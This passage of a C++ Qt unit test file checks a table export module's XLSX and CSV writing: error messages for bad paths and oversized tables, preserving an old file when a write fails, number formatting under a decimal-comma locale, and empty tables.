    QCOMPARE(QFile::permissions(path) & unixBits, permissions);
    const Workbook w = readWorkbook(path);
    QCOMPARE(w.sheet.autoFilter, QStringLiteral("A1:B1"));
    QCOMPARE(w.sheet.cells.value(QStringLiteral("A1")).text, QStringLiteral("客户"));
    QVERIFY(w.workbookXml.contains(QStringLiteral("name=\"销售报表\"").toUtf8()));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("report.xlsx")});
}

void TestTableWriter::xlsxErrors()
{
    QTemporaryDir dir;
    ExportTable t;
    t.columns = {col(QStringLiteral("Text"))};
    ExportResult r = TableWriter::writeXlsx(dir.path(), t, fromList({{QStringLiteral("x")}}));
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QStringLiteral("is a folder")), qPrintable(r.error));
    const QString missing = dir.filePath(QStringLiteral("gone/x.xlsx"));
    r = TableWriter::writeXlsx(missing, t, fromList({{QStringLiteral("x")}}));
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QDir::toNativeSeparators(missing)), qPrintable(r.error));
    QVERIFY(entries(dir.path()).isEmpty());

    ExportTable wide;
    wide.columns.resize(16385);
    r = TableWriter::writeXlsx(dir.filePath(QStringLiteral("wide.xlsx")), wide, fromList({}));
    QVERIFY(!r.ok);
    QVERIFY2(r.error.contains(QStringLiteral("16 384")), qPrintable(r.error));
}

void TestTableWriter::xlsxWriteFailure()
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("full.xlsx"));
    writeFile(path, "old contents");
    ExportTable t;
    t.columns = {col(QStringLiteral("N"), CellKind::Integer), col(QStringLiteral("Text"))};
    ExportResult r;
    withFileSizeLimit(64 * 1024, [&] {
        r = TableWriter::writeXlsx(path, t, repeated(20000, {qint64(123456), QStringLiteral("a line of text that fills the file")}));
    });
    QVERIFY(!r.ok);
    QVERIFY(!r.cancelled);
    QVERIFY2(r.error.contains(QDir::toNativeSeparators(path)), qPrintable(r.error));
    QCOMPARE(readFile(path), QByteArray("old contents"));
    QCOMPARE(entries(dir.path()), QStringList{QStringLiteral("full.xlsx")});
}

// libxlsxwriter prints numbers with printf: under a decimal-comma locale they must stay "12000.5".
void TestTableWriter::xlsxNumbersUnderCommaLocale()
{
    locale_t comma = newlocale(LC_NUMERIC_MASK, "de_DE.UTF-8", nullptr);
    if (!comma)
        QSKIP("No de_DE.UTF-8 locale here (set LOCPATH to a localedef output to run this)");
    const locale_t previous = uselocale(comma);
    char probe[32];
    std::snprintf(probe, sizeof probe, "%.1f", 1.5);
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("de.xlsx"));
    ExportTable t;
    t.columns = {col(QStringLiteral("Amount"), CellKind::Money)};
    const ExportResult r = TableWriter::writeXlsx(path, t, fromList({{qint64(1200050)}}));
    uselocale(previous);
    freelocale(comma);
    QCOMPARE(probe, "1,5"); // the locale is in force
    QVERIFY2(r.ok, qPrintable(r.error));
    QCOMPARE(readWorkbook(path).sheet.cells.value(QStringLiteral("A2")).value, QStringLiteral("12000.5"));
}

void TestTableWriter::noColumns()
{
    QTemporaryDir dir;
    ExportResult r = TableWriter::writeCsv(dir.filePath(QStringLiteral("a.csv")), {}, fromList({}));
    QVERIFY(!r.ok);
    QVERIFY(!r.error.isEmpty());
    r = TableWriter::writeXlsx(dir.filePath(QStringLiteral("a.xlsx")), {}, fromList({}));
    QVERIFY(!r.ok);
    QVERIFY(entries(dir.path()).isEmpty());
}

QTEST_GUILESS_MAIN(TestTableWriter)
#include "tst_tablewriter.moc"
